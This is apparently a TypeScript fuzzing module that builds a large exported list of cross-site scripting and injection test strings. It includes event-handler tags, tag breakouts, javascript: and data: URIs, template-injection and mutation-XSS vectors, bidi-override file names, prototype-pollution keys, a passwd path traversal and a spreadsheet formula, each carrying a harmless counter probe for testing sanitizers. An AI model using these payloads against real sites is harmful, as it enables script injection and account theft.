// Names and lines that would like to be more than text.

const PROBE = "window.__executed=(window.__executed||0)+1";

const ELEMENTS = [
  "img",
  "svg",
  "iframe",
  "video",
  "audio",
  "body",
  "input",
  "details",
  "object",
  "embed",
  "marquee",
];
const EVENTS = ["onerror", "onload", "onfocus", "ontoggle", "onstart", "onmouseover"];

const handlers = ELEMENTS.flatMap((element) =>
  EVENTS.map((event) => `<${element} src=x ${event}="${PROBE}" autofocus open>`),
);

const closers = [
  "</script>",
  "</style>",
  "</title>",
  "</textarea>",
  "</select>",
  "</option>",
  "</table>",
  "-->",
  "]]>",
];
const breakouts = closers.map((closer) => `${closer}<script>${PROBE}</script>`);

const attributes = [`"`, `'`, "`", `"'`, `\\"`].flatMap((quote) => [
  `${quote} onmouseover=${quote}${PROBE}`,
  `${quote}><script>${PROBE}</script>`,
  `${quote} style=${quote}background:url(javascript:${PROBE})`,
]);

const addresses = [
  "javascript:",
  "JaVaScRiPt:",
  "java\tscript:",
  " javascript:",
  "data:text/html,",
  "vbscript:",
  "&#106;avascript:",
].flatMap((scheme) => [
  `${scheme}${PROBE}`,
  `<a href="${scheme}${PROBE}">x</a>`,
  `<form action="${scheme}${PROBE}"><button>x</button></form>`,
]);

const templates = [
  `{{constructor.constructor('${PROBE}')()}}`,
  `\${${PROBE}}`,
  `<%= ${PROBE} %>`,
  `#{${PROBE}}`,
  `[[${PROBE}]]`,
  `{%raw%}<script>${PROBE}</script>`,
  `@{${PROBE}}`,
];

const directions = [
  "\u202e",
  "\u202d",
  "\u2066",
  "\u2067",
  "\u2069",
  "\u200f",
  "\u061c",
  "\u200b",
  "\ufeff",
  "\u0000",
  "\u0008",
];
const turned = directions.flatMap((mark) => [`${mark}gnp.exe`, `latency${mark}<script>${PROBE}</script>`]);

const encoded = [
  `%3Cscript%3E${PROBE}%3C/script%3E`,
  `&lt;script&gt;${PROBE}&lt;/script&gt;`,
  `\\u003cscript\\u003e${PROBE}\\u003c/script\\u003e`,
  `<scr<script>ipt>${PROBE}</scr</script>ipt>`,
  `<script\u00a0>${PROBE}</script>`,
  `＜script＞${PROBE}＜/script＞`,
  `<math><mtext><table><mglyph><style><img src=x onerror=${PROBE}>`,
  `<noscript><p title="</noscript><img src=x onerror=${PROBE}>">`,
  `<template><script>${PROBE}</script></template>`,
  `<base href="https://example.invalid/">`,
  `<link rel=stylesheet href=https://example.invalid/x.css>`,
  `<meta http-equiv=refresh content="0;url=https://example.invalid/">`,
  `<style>@import url(https://example.invalid/);</style>`,
];

const names = [
  "__proto__",
  "constructor",
  "hasOwnProperty",
  "toString",
  "length",
  "innerHTML",
  "onclick",
  "../../etc/passwd",
];

const long = [
  "A".repeat(20_000),
  "\u0301".repeat(2000),
  "<b>".repeat(2000),
  `=HYPERLINK("https://example.invalid")`,
];

const scripted = [
  "script",
  "SCRIPT",
  "scRipt",
  "script/x",
  "script src=https://example.invalid/x.js",
  "svg><script",
];

export const PAYLOADS: readonly string[] = [
  ...handlers,
  ...breakouts,
  ...attributes,
  ...addresses,
  ...templates,
  ...turned,
  ...encoded,
  ...names,
  ...long,
  ...scripted.map((name) => `<${name}>${PROBE}</script>`),
  ...ELEMENTS.map((element) => `<${element}\nonload\n=\n${PROBE}>`),
  ...["img", "IMG", "image", "picture", "source", "use", "set", "animate"].map(
    (element) => `<svg><${element} href="javascript:${PROBE}" onbegin=${PROBE}></svg>`,
  ),
  ...EVENTS.flatMap((event) => [`x" ${event}="${PROBE}`, `x' ${event}='${PROBE}`, `<x ${event}=${PROBE}>`]),
  ...ELEMENTS.map((element) => `<${element}/**/src=x/**/onerror=${PROBE}//`),
];
